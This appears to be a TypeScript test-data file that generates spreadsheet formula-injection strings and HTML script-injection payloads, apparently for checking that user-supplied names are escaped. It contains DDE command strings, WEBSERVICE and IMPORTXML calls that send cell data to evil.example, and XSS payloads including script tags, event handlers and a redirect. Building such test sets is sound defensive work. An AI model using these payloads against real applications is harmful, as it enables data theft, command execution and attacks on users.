/** Texts a tenant's administrator, or an attacker in it, may give to anything that has a name. */

const formulaStarts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\r\n+',
  ' =',
  '  @',
  '\u00a0=',
  '\ufeff=',
  '\u2028-',
  '\u0085=',
  '\v=',
  '\f+',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
];
const formulaBodies = [
  (mark: string) => `${mark}+1`,
  (mark: string) => `HYPERLINK("http://evil.example/${mark}","x")`,
  (mark: string) => `cmd|' /C calc ${mark}'!A0`,
  (mark: string) => `WEBSERVICE("http://evil.example/${mark}?"&A1)`,
  (mark: string) => `SUM(1,1)*${mark}`,
  (mark: string) => `IMPORTXML("http://evil.example/${mark}","//a")`,
  (mark: string) => `"${mark}"&A1`,
  (mark: string) => `1+1","=${mark}`,
  (mark: string) => `${mark}"\r\n"=2+2`,
  (mark: string) => `DDE("cmd","/C calc","${mark}")`,
];

/** 200 texts a spreadsheet would run; each holds its own mark `cw<n>z`. */
export const formulas: readonly string[] = formulaStarts.flatMap((start, row) =>
  formulaBodies.map((body, column) => `${start}${body(`cw${String(row * 10 + column)}z`)}`),
);

const breaks = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</style>',
  '--><!--',
  '\n```\n',
  '</textarea>',
];
const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  ' onmouseover=alert(1) autofocus onfocus=alert(1) x=',
  '<a href="javascript:alert(1)">x</a><meta http-equiv="refresh" content="0;url=//evil.example">',
];

/** 60 texts a browser would run where they are not escaped. */
export const markup: readonly string[] = breaks.flatMap((before) =>
  scripts.map((script) => `${before}${script}`),
);
